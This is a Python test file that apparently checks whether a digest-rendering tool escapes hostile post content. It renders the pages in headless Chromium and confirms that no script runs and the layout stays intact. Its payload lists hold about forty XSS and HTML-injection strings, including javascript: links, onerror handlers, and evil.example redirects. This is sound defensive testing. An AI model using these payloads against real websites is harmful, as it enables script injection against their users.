"""Hostile posts in a real browser: planted script and HTML-injection payloads stay text.

Classic XSS and HTML-injection strings go into the text, title, author name, key terms and
link of posts that the W47 digest shows (questions, risk watch, top posts, emerging terms).
Both HTML versions (the outbox file and the mail with cid: images) are opened in headless
Chromium, which must show that

- no script ran: no dialog opened, `window.__pwned` is unset;
- no element or attribute came from a post: every tag and attribute name on the page is one
  the same digest without payloads uses, and there is no script/iframe/object/form/base/meta;
- every link is http(s): no `javascript:`, `data:`, `vbscript:` or `file:` href survives;
- the layout holds: the same sections in the same order, nothing wider than the 640 px column,
  no request leaves the page.

Skipped without Chromium and playwright, unless EARSHOT_REQUIRE_BROWSER=1 (then it fails).
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from earshot.listeners.records import Post
from earshot.nlp.records import Annotation, TopicMatch
from earshot.reports.delivery import write_outbox
from earshot.reports.digest import build_digest
from earshot.reports.render import render_digest
from earshot.warehouse.annotations import store_annotations
from earshot.warehouse.facts import refresh_facts
from earshot.warehouse.sources import insert_posts
from scripts.browser_check import (
    _MEASURE,
    CHROMIUM_ARGS,
    MAIL_WIDTH,
    SECTIONS,
    browser_available,
    chromium_path,
)
from tests.reports.history import NOW, W47_MONDAY, WEEK, History

if os.environ.get("EARSHOT_REQUIRE_BROWSER") == "1" and not browser_available():
    raise RuntimeError("EARSHOT_REQUIRE_BROWSER=1 but chromium or playwright is missing")

pytestmark = pytest.mark.skipif(
    not browser_available(), reason="needs chromium (apt-get install chromium) and playwright"
)

# Each would run script, add markup, or break the layout if it were not escaped.
PAYLOADS = [
    "<script>window.__pwned=1;alert(1)</script>",
    '<img src=x onerror="window.__pwned=2;alert(2)">',
    "<svg onload=alert(3)><circle r=9></svg>",
    '"><script>alert(4)</script>',
    "'><img src=x onerror=alert(5)>",
    '" onmouseover="alert(6)" x="',
    '<a href="javascript:alert(7)">click me</a>',
    '<iframe src="javascript:alert(8)"></iframe>',
    "<style>body{display:none} table{width:5000px !important}</style>",
    '</td></tr></table></td></tr></table><h2 id="pwned">Fake section</h2><table><tr><td>',
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:red">',
    "<b><i><u><table><tr><td>unclosed tags",
    "<!-- an unclosed comment",
    '<div style="width: expression(alert(14))">css expression</div>',
    "\u202egnp.exe\u202c RTL override and \u200b\u200b zero-width",
    "W" * 3000,  # a very long word
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=p><button>go</button></form>',
    '<object data="data:text/html,<script>alert(20)</script>"></object>',
    "<body onload=alert(21)>",
    "{{ 7*7 }} {% for x in range(9) %}{{ x }}{% endfor %} ${7*7}",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(23)>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=">x</a>',
    "&lt;script&gt;alert(25)&lt;/script&gt; &#60;img src=x onerror=alert(25)&#62;",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(27)>"></noscript>',
    "<template><script>alert(28)</script></template><slot>",
]

# Post links that must never become an href (or only as the escaped http(s) URL they are).
LINKS = [
    "javascript:alert('link-1')",
    "JaVaScRiPt:window.__pwned=11",
    " javascript:alert(3)",
    "java\tscript:alert(4)",
    "data:text/html,<script>alert(5)</script>",
    "vbscript:msgbox(6)",
    "file:///etc/passwd",
    "//evil.example/protocol-relative",
    'https://ok.example/"><script>alert(9)</script>',
    "https://ok.example/a?b=<img src=x onerror=alert(10)>",
    "https://example.org/" + "a" * 3000,
    "http://[::1",
]

FORBIDDEN = "script, iframe, object, embed, form, input, button, base, meta, link, svg, math"

_INSPECT = """
() => {
  const tags = new Set(), attributes = new Set();
  for (const el of document.querySelectorAll('*')) {
    tags.add(el.tagName.toLowerCase());
    for (const a of el.attributes) attributes.add(a.name.toLowerCase());
  }
  return {
    tags: [...tags].sort(),
    attributes: [...attributes].sort(),
    hrefs: [...document.querySelectorAll('[href]')].map(e => e.getAttribute('href')),
    srcs: [...document.querySelectorAll('[src]')].map(e => e.getAttribute('src')),
    forbidden: [...document.querySelectorAll(arguments_forbidden)].map(e => e.outerHTML),
    pwned: window.__pwned === undefined ? null : String(window.__pwned),
    text: document.body.innerText,
  };
}
"""


def plant(h: History) -> int:
    """Add payload posts to W47 as high-engagement negative questions; return how many."""
    count = 0
    for i, payload in enumerate(PAYLOADS + LINKS):
        link = LINKS[i % len(LINKS)] if i < len(PAYLOADS) else payload
        post = Post(
            platform="feed",
            source_id="forum",
            external_id=f"hostile-{i}",
            url=link,
            author=payload if i < len(PAYLOADS) else f"author {i}",
            author_handle=payload[:64],
            title=payload,
            text=f"{payload} Warum ist der Preis so hoch? {i}",
            lang_hint="de",
            published_at=W47_MONDAY + timedelta(hours=90 + i),
            fetched_at=NOW,
            likes=500 + i,
            replies=i,
        )
        h.posts.append(post)
        h.annotations.append(
            Annotation(
                post_id=post.post_id,
                lang="de",
                lang_score=0.99,
                sentiment=-0.8,
                sentiment_label="negative",
                is_question=True,
                key_terms=(payload[:80], "#<b>bold</b>"),
                topics=(TopicMatch("price", "expert", ("price",)),),
            )
        )
        count += 1
    insert_posts(h.con, h.posts[-count:], "load-hostile")
    store_annotations(h.con, h.annotations[-count:], pipeline_version="t.v1", load_id="load-h2")
    refresh_facts(h.con)  # as every write cycle ends
    return count


def render(h: History, root: Path) -> tuple[Path, Path]:
    """The outbox file version and the mail version of the W47 digest."""
    digest = build_digest(
        h.con,
        week=WEEK,
        organisation="Stadtwerke <Beispiel> & Co",
        timezone="Europe/Berlin",
        language="de",
        top_n=100,
        questions_per_topic=len(PAYLOADS) + len(LINKS),
        now=NOW,
    )
    page = render_digest(digest)
    folder = write_outbox(root, digest, page.html, page.text, charts=page.charts)
    mail = folder / "mail.html"
    mail.write_text(page.mail_html, encoding="utf-8")
    return folder / "digest.html", mail


def inspect(html: Path) -> dict[str, Any]:
    """Open `html` in Chromium: what the page holds, any dialogs, requests leaving it."""
    from playwright.sync_api import sync_playwright

    executable = chromium_path()
    assert executable is not None
    dialogs: list[str] = []
    external: list[str] = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": MAIL_WIDTH, "height": 900})
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))

            def route(r: Any) -> None:
                url = r.request.url
                if url.startswith("file:"):
                    r.continue_()
                    return
                if not url.startswith("cid:"):  # the mail's charts: no file behind them here
                    external.append(url)
                r.abort()

            page.route("**/*", route)
            page.goto(html.resolve().as_uri(), wait_until="load")
            page.wait_for_timeout(300)  # let any timer or late handler fire
            found = page.evaluate(_INSPECT.replace("arguments_forbidden", repr(FORBIDDEN)))
            found.update(page.evaluate(_MEASURE, MAIL_WIDTH))
        finally:
            browser.close()
    found["dialogs"] = dialogs
    found["external"] = external
    return found


@pytest.fixture
def clean_and_hostile(history: History, tmp_path: Path) -> Iterator[tuple[Path, Path, Path, int]]:
    clean_file, _ = render(history, tmp_path / "clean")
    planted = plant(history)
    hostile_file, hostile_mail = render(history, tmp_path / "hostile")
    yield clean_file, hostile_file, hostile_mail, planted


def test_planted_payloads_neither_run_nor_change_the_layout(
    clean_and_hostile: tuple[Path, Path, Path, int],
) -> None:
    clean_file, hostile_file, hostile_mail, planted = clean_and_hostile
    assert planted == len(PAYLOADS) + len(LINKS) >= 20
    source = hostile_file.read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned=1" in source  # the payloads are on the page, as text
    clean = inspect(clean_file)
    assert clean["sections"] == list(SECTIONS)
    assert not [e for e in clean["forbidden"] if not e.startswith("<meta")]
    for html in (hostile_file, hostile_mail):
        page = inspect(html)
        where = html.name
        assert page["dialogs"] == [], where
        assert page["pwned"] is None, where
        assert page["forbidden"] == clean["forbidden"], where  # the template's own <meta>s
        assert set(page["tags"]) <= set(clean["tags"]), (where, page["tags"])
        assert set(page["attributes"]) <= set(clean["attributes"]), where
        assert not [a for a in page["attributes"] if a.startswith("on")], where
        bad = [h for h in page["hrefs"] if not h.lower().startswith(("http://", "https://"))]
        assert bad == [], (where, bad)
        assert not any("evil.example" in h for h in page["hrefs"]), where
        assert page["sections"] == list(SECTIONS), where
        assert page["scroll_width"] <= MAIL_WIDTH, where
        assert page["widest_right_edge"] <= MAIL_WIDTH + 0.5, (where, page["widest_element"])
        assert page["external"] == [], where
        assert "<script>window.__pwned=1" in page["text"]  # shown, as the text it is
    file_page = inspect(hostile_file)
    assert file_page["images"] == 3 and file_page["images_loaded"] == 3
